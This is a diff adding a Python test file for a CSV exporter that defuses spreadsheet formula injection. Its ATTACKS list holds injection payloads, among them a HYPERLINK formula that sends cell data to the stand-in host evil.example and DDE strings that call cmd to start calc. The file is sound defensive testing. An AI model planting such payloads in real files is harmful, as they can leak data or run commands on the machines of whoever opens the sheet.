@@ -1,0 +1,60 @@
+"""CSV that spreadsheets can open: no cell is a formula, and nothing of a text is lost."""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from monitor.text.table import FORMULA_STARTS, MARK, csv_bytes, safe_cell
+
+ATTACKS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "=1+1",
+    "+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u3000＝1＋1",
+    "\ufeff=1+1",
+    "＠SUM(1)",
+    "－1",
+]
+
+
+def parsed(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_what_a_spreadsheet_would_run_is_text(attack: str) -> None:
+    assert safe_cell(attack) == MARK + attack
+
+
+@pytest.mark.parametrize("text", ["", "India and Japan = friends", "2025-05-05", "防衛", "'quoted", '"', "a\r\nb"])
+def test_other_text_stays_as_it_is(text: str) -> None:
+    assert safe_cell(text) == text
+
+
+def test_a_table_as_bytes() -> None:
+    content = csv_bytes(("id", "place", "note"), [(-1, None, 'a "b", c\r\nd'), (2, "नई दिल्ली", "=1")])
+    assert content == codecs.BOM_UTF8 + ('id,place,note\r\n-1,,"a ""b"", c\r\nd"\r\n2,नई दिल्ली,\'=1\r\n'.encode())
+
+
+@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=2, max_size=2)))
+def test_whatever_stands_in_cells_comes_back_and_none_is_a_formula(rows: list[list[str]]) -> None:
+    header, *found = parsed(csv_bytes(("a", "b"), rows))
+    assert header == ["a", "b"]
+    assert found == [[safe_cell(cell) for cell in row] for row in rows]
+    assert not any(cell.strip()[:1] in FORMULA_STARTS for row in found for cell in row if cell.strip())
+
+
+def test_half_a_surrogate_pair_costs_no_table() -> None:
+    assert parsed(csv_bytes(("a",), [("x\ud800y",)])) == [["a"], ["x?y"]]
